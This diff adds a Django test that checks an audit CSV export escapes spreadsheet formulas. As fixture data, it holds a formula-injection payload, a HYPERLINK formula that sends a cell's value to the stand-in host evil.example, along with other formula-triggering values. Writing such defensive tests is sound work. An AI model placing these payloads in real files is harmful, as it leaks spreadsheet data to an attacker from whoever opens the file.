@@ -74,3 +74,23 @@ def test_a_real_worker_runs_a_started_job(make_brand, system, tmp_path):
     job.refresh_from_db()
     assert job.status == Job.Status.SUCCEEDED, job.error
     assert (tmp_path / "media" / job.result["file"]).exists()
+
+
+def test_audit_export_neutralises_formulas_in_every_text_cell(make_brand, make_user, tmp_path, settings):
+    """Brand names, actor labels and request ids reach the audit CSV; none may run in a spreadsheet."""
+    from telora.core.services import record_event
+
+    settings.MEDIA_ROOT = tmp_path
+    evil = make_brand("evil", name='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    user = make_user("@A1+B1")  # Django's user names allow @ + - . _
+    record_event(actor=Actor(user=user, request_id="-A1:B2"), at=clock.now(), action="update", obj=evil,
+                 brand=evil, old={"name": "x"}, new={"name": "=1+1"})
+    job = execute(start_job("audit_export", actor=Actor.system("tests"), at=clock.now(), brand=evil,
+                            params={"brand_id": evil.pk}).pk)
+    rows = list(csv.DictReader((tmp_path / job.result["file"]).open(newline="")))
+    event = next(row for row in rows if row["action"] == "update")
+    assert event["object"] == "'" + evil.name
+    assert event["actor"] == "'@A1+B1"
+    assert event["request_id"] == "'-A1:B2"
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
